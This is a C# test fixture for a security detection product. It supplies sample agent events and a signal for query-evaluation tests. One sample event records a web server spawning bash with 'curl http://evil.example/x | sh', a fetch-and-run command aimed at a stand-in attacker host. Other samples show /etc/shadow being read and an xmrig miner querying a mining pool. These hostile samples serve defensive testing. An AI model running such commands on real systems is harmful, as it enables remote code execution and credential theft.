using System.Text.Json;
using Vigil.Core.Domain;
using Vigil.Core.Query.Evaluation;

namespace Vigil.Core.Tests.Query;

/// <summary>Realistic agent events (exec with ancestors, open, dns) and a signal, by name.</summary>
internal static class QueryTestDocuments
{
    public const string ExecJson = """
        {
          "agent": { "rule_id": "shell_spawned", "version": "7.50.0" },
          "evt": { "name": "exec", "category": "process", "outcome": "success" },
          "title": "Shell spawned by a web server",
          "message": "A shell was spawned by nginx on web-1",
          "process": {
            "pid": 4242, "ppid": 4000, "uid": 33, "user": "www-data", "is_thread": false,
            "executable": { "path": "/usr/bin/bash", "name": "bash" },
            "file": { "name": "bash", "path": "/usr/bin/bash" },
            "args": ["-c", "curl http://evil.example/x | sh"],
            "ancestors": [
              { "pid": 4000, "file": { "name": "nginx", "path": "/usr/sbin/nginx" } },
              { "pid": 1, "file": { "name": "systemd", "path": "/usr/lib/systemd/systemd" } }
            ]
          },
          "container": { "id": "abc123def", "image": "nginx:1.25" },
          "usr": { "name": "www-data" },
          "score": 7.5,
          "note": null,
          "empty": [],
          "escaped": "quote \" inside"
        }
        """;

    public const string OpenJson = """
        {
          "agent": { "rule_id": "etc_shadow_read" },
          "evt": { "name": "open", "category": "file" },
          "title": "Sensitive file opened",
          "file": { "path": "/etc/shadow", "name": "shadow", "mode": 420, "flags": ["O_RDONLY", "O_CLOEXEC"] },
          "process": {
            "pid": 812,
            "executable": { "path": "/usr/bin/cat", "name": "cat" },
            "ancestors": [ { "file": { "name": "sudo" } }, { "file": { "name": "bash" } } ]
          }
        }
        """;

    public const string DnsJson = """
        {
          "agent": { "rule_id": "dns_to_mining_pool" },
          "evt": { "name": "dns", "category": "network" },
          "title": "DNS query to a mining pool",
          "dns": { "question": { "name": "pool.minexmr.com", "type": "A", "class": "IN", "count": 1 } },
          "network": { "destination": { "ip": "10.0.0.53", "port": 53 } },
          "process": { "pid": 999, "executable": { "path": "/opt/.cache/xmrig", "name": "xmrig" } }
        }
        """;

    public static readonly JsonEventDocument Exec = Json(ExecJson,
        "host:web-1", "env:prod", "service:frontend", "team:payments", "team:security", "version:12");

    public static readonly JsonEventDocument Open = Json(OpenJson, "host:db-2", "env:staging");

    public static readonly JsonEventDocument Dns = Json(DnsJson, "host:web-3", "env:prod");

    public static readonly DictionaryQueryDocument Signal = new(
        new Dictionary<string, object?>
        {
            ["status"] = Severity.High,
            ["rule"] = "Shell spawned by web server",
            ["title"] = "Shell spawned by web server on web-1",
            ["host"] = "web-1",
            ["events_matched"] = 12,
            ["first_seen"] = new DateTimeOffset(2026, 11, 29, 3, 0, 0, TimeSpan.Zero),
            ["agent.rule_id"] = "shell_spawned",
            ["workflow"] = new Dictionary<string, object?>
            {
                ["triage"] = new Dictionary<string, object?> { ["state"] = "open", ["assignee"] = null },
                ["rule"] = new Dictionary<string, object?> { ["type"] = "Workload Security" },
            },
        },
        QueryTags.Parse(["source:runtime-security-agent", "tactic:TA0002-execution", "env:prod"]));

    public static IQueryDocument Get(string name) => name switch
    {
        "exec" => Exec,
        "open" => Open,
        "dns" => Dns,
        "signal" => Signal,
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, "unknown test document"),
    };

    private static JsonEventDocument Json(string json, params string[] tags)
    {
        using var document = JsonDocument.Parse(json);
        return new JsonEventDocument(document.RootElement.Clone(), QueryTags.Parse(tags));
    }
}
